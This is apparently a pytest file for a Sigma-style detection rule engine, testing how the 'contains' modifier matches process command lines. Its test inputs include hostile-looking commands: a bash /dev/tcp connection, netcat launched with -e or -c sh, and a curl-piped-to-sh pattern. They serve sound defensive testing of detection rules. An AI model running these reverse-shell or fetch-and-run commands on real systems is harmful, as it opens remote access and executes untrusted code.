"""``|contains``: the value anywhere in the field, case-insensitive, OR over a list."""

from __future__ import annotations

from typing import Any

import yaml

from coi_watch.events import ProcExec
from coi_watch.rules.compile import CompiledRule
from coi_watch.rules.load import load_text


def rule(detection: dict[str, Any]) -> CompiledRule:
    doc = {"title": "t", "id": "0b8e5f4a-1c2d-4e5f-8a9b-0c1d2e3f4a5b", "level": "high",
           "logsource": {"category": "process_creation", "product": "linux"},
           "detection": detection}
    res = load_text(yaml.safe_dump(doc, sort_keys=False))
    assert not res.errors, res.errors
    return res.rules[0]


def proc(*argv: str, exe: str = "/usr/bin/x") -> ProcExec:
    return ProcExec(ts_ns=1, wall_ns=1, container="c", pid=2, exe=exe, argv=argv)


def test_substring_anywhere() -> None:
    r = rule({"sel": {"CommandLine|contains": "/dev/tcp/"}, "condition": "sel"})
    assert r.match(proc("bash", "-c", "exec 3<>/dev/tcp/1.2.3.4/80"))
    assert not r.match(proc("bash", "-c", "echo hi"))


def test_case_insensitive_both_ways() -> None:
    r = rule({"sel": {"CommandLine|contains": "PaSsWoRd"}, "condition": "sel"})
    assert r.match(proc("grep", "password", "f"))
    assert r.match(proc("grep", "PASSWORD", "f"))


def test_list_is_or() -> None:
    r = rule({"sel": {"CommandLine|contains": [" -e ", " -c "]}, "condition": "sel"})
    assert r.match(proc("nc", "-e", "sh"))
    assert r.match(proc("nc", "-c", "sh"))
    assert not r.match(proc("nc", "-l", "80"))


def test_absent_field_never_contains() -> None:
    r = rule({"sel": {"CommandLine|contains": "x"}, "condition": "sel"})
    assert not r.match(proc())  # empty argv: CommandLine absent


def test_wildcards_inside_the_value_still_apply() -> None:
    r = rule({"sel": {"CommandLine|contains": "curl*|*sh"}, "condition": "sel"})
    assert r.match(proc("bash", "-c", "curl http://x | sh"))
    assert not r.match(proc("bash", "-c", "sh | curl"))


def test_escaped_wildcard_is_literal() -> None:
    r = rule({"sel": {"CommandLine|contains": "a\\*b"}, "condition": "sel"})
    assert r.match(proc("echo", "a*b"))
    assert not r.match(proc("echo", "axxb"))


def test_integer_field_is_matched_by_its_text() -> None:
    r = rule({"sel": {"ProcessId|contains": "2"}, "condition": "sel"})
    assert r.match(proc("x"))
